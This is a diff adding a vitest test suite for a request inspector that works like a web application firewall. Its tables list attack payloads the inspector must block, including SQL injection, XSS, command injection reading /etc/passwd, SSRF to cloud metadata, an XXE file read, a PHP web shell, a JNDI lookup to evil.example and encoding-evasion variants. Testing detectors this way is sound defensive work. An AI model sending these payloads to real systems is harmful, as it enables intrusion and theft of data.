@@ -1,0 +1,140 @@
+import { describe, expect, it } from 'vitest';
+import { createInspector, inspect, type InspectRequest } from './index.js';
+
+const get = (query: string, headers: Record<string, string> = {}): InspectRequest => ({ method: 'GET', path: '/api/items', query, headers: { host: 'api.example.com', ...headers } });
+const json = (body: unknown): InspectRequest => ({ method: 'POST', path: '/api/items', query: '', headers: { host: 'api.example.com', 'content-type': 'application/json' }, body: JSON.stringify(body) });
+const q = (v: string) => get('q=' + encodeURIComponent(v));
+const categories = (r: ReturnType<typeof inspect>) => [...new Set(r.findings.map((f) => f.category))];
+
+describe('inspect: attacks are blocked with evidence', () => {
+  it.each([
+    ['sqli', "1' OR '1'='1"],
+    ['sqli', 'admin\'--'],
+    ['sqli', '1 UNION SELECT password FROM users'],
+    ['sqli', "1'; DROP TABLE users--"],
+    ['sqli', '1 AND SLEEP(5)'],
+    ['xss', '<script>alert(1)</script>'],
+    ['xss', '<img src=x onerror=alert(1)>'],
+    ['xss', 'javascript:alert(document.cookie)'],
+    ['xss', '"><svg/onload=alert(1)>'],
+    ['cmdi', '; cat /etc/passwd'],
+    ['cmdi', '$(whoami)'],
+    ['cmdi', 'x;${IFS}id'],
+    ['traversal', '../../../../etc/passwd'],
+    ['ssrf', 'http://169.254.169.254/latest/meta-data/'],
+    ['ssrf', 'http://2130706433/'],
+    ['ssrf', 'gopher://127.0.0.1:6379/_INFO'],
+    ['ldapi', '*)(uid=*))(|(uid=*'],
+    ['ssti', "{{''.__class__.__mro__[1].__subclasses__()}}"],
+    ['jndi', '${${lower:j}ndi:ldap://evil.example/a}'],
+    ['crlf', 'x\r\nSet-Cookie: admin=1'],
+    ['mail', 'me@example.com\nBcc: all@example.com'],
+    ['ssi', '<!--#exec cmd="id"-->'],
+    ['java', 'java.lang.Runtime'],
+    ['php', '<?php system($_GET[1]); ?>'],
+  ])('%s: %s', (category, payload) => {
+    const r = inspect(q(payload));
+    expect(r.blocked).toBe(true);
+    expect(categories(r)).toContain(category);
+    const f = r.findings.find((x) => x.category === category);
+    expect(f?.location).toBe('query:q');
+    expect(f?.reason.length).toBeGreaterThan(5);
+    expect(f?.fragment.length).toBeGreaterThan(0);
+  });
+
+  it('finds NoSQL operators in JSON keys and bracketed query keys', () => {
+    expect(categories(inspect(json({ user: 'a', password: { $ne: null } })))).toContain('nosqli');
+    expect(categories(inspect(get('user=a&password[$ne]=x')))).toContain('nosqli');
+  });
+
+  it('finds prototype pollution keys', () => {
+    expect(inspect(json({ __proto__: { admin: true } })).blocked).toBe(false); // JSON.stringify drops __proto__: build the text by hand
+    const body = '{"__proto__":{"admin":true}}';
+    expect(categories(inspect({ ...json({}), body }))).toContain('prototype-pollution');
+    expect(categories(inspect(get('constructor[prototype][admin]=1')))).toContain('prototype-pollution');
+  });
+
+  it('finds XXE in XML bodies', () => {
+    const body = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>';
+    const r = inspect({ method: 'POST', path: '/soap', query: '', headers: { 'content-type': 'application/xml' }, body });
+    expect(categories(r)).toContain('xxe');
+  });
+
+  it('decodes before detecting: double URL encoding, HTML entities, \\u escapes, full-width forms, base64', () => {
+    expect(inspect(get('q=%253Cscript%253Ealert(1)%253C%252Fscript%253E')).blocked).toBe(true);
+    expect(inspect(q('<a href="jav&#x61;script:alert(1)">x</a>')).blocked).toBe(true);
+    expect(inspect(json({ q: '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e' })).blocked).toBe(true);
+    expect(inspect(q('＜script＞alert(1)＜/script＞')).blocked).toBe(true);
+    expect(inspect(json({ data: Buffer.from("' UNION SELECT password FROM users--").toString('base64') })).blocked).toBe(true);
+    expect(inspect(get('f=..%c0%af..%c0%afetc%c0%afpasswd')).blocked).toBe(true);
+  });
+
+  it('inspects headers, cookies and path segments', () => {
+    expect(categories(inspect(get('', { 'user-agent': '${jndi:ldap://x.example/a}' })))).toContain('jndi');
+    expect(categories(inspect(get('', { cookie: "sid=1' or '1'='1" })))).toContain('sqli');
+    expect(categories(inspect({ method: 'GET', path: '/users/1%20union%20select%20password%20from%20users', query: '', headers: {} }))).toContain('sqli');
+  });
+});
+
+describe('inspect: benign traffic passes', () => {
+  it.each([
+    "O'Brien",
+    'Mary-Jane O\'Connor',
+    'Please select the best option from the menu.',
+    'We will drop the old plan and union the two teams.',
+    "I'd rather update my address; it's changed.",
+    'Price: $19.99 (incl. VAT) - 50% off!',
+    'https://www.example.com/products/123?ref=mail&x=1',
+    '**bold** and `code` and [a link](https://docs.example.com/a/b)',
+    'status = \'open\' AND priority >= 2',
+    '1 or 2 people will attend',
+    'Tom & Jerry <3',
+    '2024-05-01T10:00:00Z',
+    'a1b2c3d4-e5f6-4711-8899-aabbccddeeff',
+  ])('%s', (text) => {
+    const r = inspect(q(text));
+    expect(r.blocked, JSON.stringify(r.findings)).toBe(false);
+  });
+
+  it('passes a typical JSON body', () => {
+    const r = inspect(json({ name: "Anne-Marie d'Arcy", email: 'a@example.com', bio: 'Union rep; likes select wines & cheese.', tags: ['a', 'b'], age: 42 }));
+    expect(r.blocked).toBe(false);
+    expect(r.score).toBe(0);
+  });
+});
+
+describe('options', () => {
+  it('paranoia gates rules: a PL2 rule does not run at PL1', () => {
+    const req = q('abc\u0001def');
+    expect(createInspector({ paranoia: 2 }).inspect(req).blocked).toBe(true);
+    expect(createInspector({ paranoia: 1 }).inspect(req).blocked).toBe(false);
+  });
+
+  it('threshold decides blocking', () => {
+    const req = q('<b onclick=x>');
+    expect(createInspector({ threshold: 5 }).inspect(req).blocked).toBe(true);
+    expect(createInspector({ threshold: 100 }).inspect(req).blocked).toBe(false);
+  });
+
+  it('exclusions by location, detector and rule', () => {
+    const req = json({ comment: '<b onclick="x()">hi</b>', other: 'ok' });
+    expect(inspect(req).blocked).toBe(true);
+    expect(createInspector({ exclusions: [{ location: 'body:/comment', detector: 'xss' }] }).inspect(req).blocked).toBe(false);
+    expect(createInspector({ exclusions: [{ location: 'body:/*' }] }).inspect(req).blocked).toBe(false);
+    expect(createInspector({ exclusions: [{ detector: 'xss.event-handler' }] }).inspect(req).findings.some((f) => f.ruleId === 'xss.event-handler')).toBe(false);
+    expect(createInspector({ exclusions: [{ location: 'body:/other', detector: 'xss' }] }).inspect(req).blocked).toBe(true);
+  });
+
+  it('caps inspected bytes and says so', () => {
+    const big = json({ a: 'x'.repeat(5000), b: '<script>alert(1)</script>' });
+    const r = createInspector({ maxInspectBytes: 2048 }).inspect(big);
+    expect(r.truncated).toBe(true);
+    expect(r.inspectedBytes).toBeLessThanOrEqual(2048);
+    expect(createInspector({ maxInspectBytes: 65536 }).inspect(big).blocked).toBe(true);
+  });
+
+  it('a finding fragment is bounded', () => {
+    const r = inspect(q('<script>' + 'a'.repeat(10_000)));
+    for (const f of r.findings) expect(f.fragment.length).toBeLessThanOrEqual(120);
+  });
+});
